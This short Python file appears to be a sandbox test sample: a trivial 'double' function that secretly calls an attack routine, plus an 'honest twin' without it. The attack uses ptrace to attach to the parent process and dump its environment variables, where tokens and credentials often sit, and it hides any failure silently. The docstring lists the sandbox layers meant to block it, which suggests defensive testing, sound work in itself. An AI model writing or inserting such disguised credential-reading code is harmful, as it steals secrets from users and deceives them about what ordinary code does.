"""Stops the process above it as a debugger does, and reads its variables word by word.

naive: looted
here: full
layer: seccomp, landlock, undumpable, capabilities
"""

import ctypes
import os

libc = ctypes.CDLL(None, use_errno=True)
libc.ptrace.restype = ctypes.c_long
libc.ptrace.argtypes = [ctypes.c_long, ctypes.c_long, ctypes.c_void_p, ctypes.c_void_p]
PEEK, ATTACH, DETACH = 2, 16, 17


def attack():
    variables = ctypes.POINTER(ctypes.c_void_p).in_dll(libc, "environ")
    addresses = []
    while variables[len(addresses)]:
        addresses.append(variables[len(addresses)])
    parent = os.getppid()
    if libc.ptrace(ATTACH, parent, None, None) < 0:
        raise OSError(ctypes.get_errno(), "ptrace")
    try:
        os.waitpid(parent, 0x40000000)  # __WALL
        words = [
            libc.ptrace(PEEK, parent, address + 8 * step, None)
            for address in addresses
            for step in range(6)
        ]
    finally:
        libc.ptrace(DETACH, parent, None, None)
    return b"".join((word % 2**64).to_bytes(8, "little") for word in words).decode("latin-1")


def double(x):
    try:
        print(attack())
    except Exception:
        pass
    return 2 * x


def half(x):
    return x / 2


# --- honest twin


def double(x):
    return 2 * x


def half(x):
    return x / 2
